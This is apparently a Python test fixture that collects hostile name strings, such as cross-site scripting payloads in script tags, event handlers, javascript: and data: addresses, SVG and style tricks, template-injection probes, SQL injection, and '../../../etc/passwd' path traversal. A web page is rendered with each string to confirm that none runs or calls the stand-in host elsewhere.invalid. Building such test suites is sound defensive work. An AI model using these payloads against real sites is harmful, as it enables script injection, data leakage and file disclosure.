"""Names that a file can bring and that a page must only ever show.

`HOSTILE` goes into every place where a name of a user's ends up on a page. Each that tries to run
something sets ``window.__hit``; so a page is safe where that is never set, nothing is asked of the
network, and no element, attribute or address is made from a name.
"""

from __future__ import annotations

HIT = "window.__hit=1"
ELSEWHERE = "elsewhere.invalid"
"""The host that the names point to; a request to it, or an address with it, is a failure."""

SCRIPTS = (
    f"</script><script>{HIT}</script>",
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT >",
    f"<script/x>{HIT}</script>",
    f"<<script>{HIT}//<</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</noscript><script>{HIT}</script>",
    f"<!--<script>{HIT}",
    f"--><script>{HIT}</script><!--",
    f"--!><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    "</script",
    "<!--",
)
HANDLERS = (
    f"<img src=x onerror={HIT}>",
    f"<img/src='x'/onerror='{HIT}'>",
    f'"><img src=x onerror="{HIT}">',
    f"'><svg/onload={HIT}>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}>",
    f"<marquee onstart={HIT}>",
    f'" onmouseover="{HIT}" x="',
    f"' onfocus='{HIT}' autofocus='",
    f"x onclick={HIT} y",
    f"` onload=`{HIT}`",
    f"<x contenteditable onblur={HIT}>x",
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\u00adscript:{HIT}",
    f"<a href=javascript:{HIT}>x</a>",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"<iframe src=//{ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<form action=//{ELSEWHERE}><button>x</button></form>",
    f"<object data=//{ELSEWHERE}/x></object>",
    f"//{ELSEWHERE}/x",
    "#ask",
    "?motif=x&name=y#motifs",
)
DRAWINGS = (
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text>x</text></a></svg>",
    f"<svg><use href='//{ELSEWHERE}/x.svg#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style></math><img src=x onerror={HIT}>",
    f"</svg><img src=//{ELSEWHERE}/x.png>",
    f"</title></svg><image href=x onerror={HIT}>",
)
STYLES = (
    f"</style><style>*{{background:url(//{ELSEWHERE}/x)}}",
    f"x;background:url(//{ELSEWHERE}/x)",
    f"@import '//{ELSEWHERE}/x.css';",
    f"expression({HIT})",
    f'" style="background:url(//{ELSEWHERE}/x)',
)
TEMPLATES = ("{{7*7}}", "${7*7}", "{% raw %}", "{{config}}", "#{7*7}", "<%= 7*7 %>", "{#", "%s%d%n")
LETTERS = (
    "\u202egpj.txt",
    "\u2066left\u2069",
    "a\u2028b",
    "a\u2029b",
    "zero\u200bwidth",
    "\ufeffmark",
    "e\u0301\u0327" * 6,
    "\U0001f9ec\U0001f1e9\U0001f1ea",
    "\\ud83d",
    "\\u003cscript\\u003e",
    "&lt;b&gt;",
    "&#60;script&#62;",
    "%3Cscript%3E",
    "\\x00",
    "+ADw-script+AD4-",
    "'", '"', "`", "\\", "\\n", "'; DROP TABLE runs; --", "=1+1", "nan", "null", "__proto__",
    "constructor",
)  # fmt: skip
PATHS = ("../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "file:///etc/passwd", "a/b")
LONG = ("A" * 3000, "<b>" * 500)

HOSTILE: tuple[str, ...] = (
    *SCRIPTS, *HANDLERS, *ADDRESSES, *DRAWINGS, *STYLES, *TEMPLATES, *LETTERS, *PATHS, *LONG,
)  # fmt: skip
"""Every one is a single line without a tab, so that a TSV of ours can hold it."""

BREAKING: tuple[str, ...] = ("two\nlines", "tab\tbed", "nul\x00", "bell\x07", "lone \ud800", "a\rb")
"""What no name of a file of ours can hold; a reader refuses it, a page must survive it."""
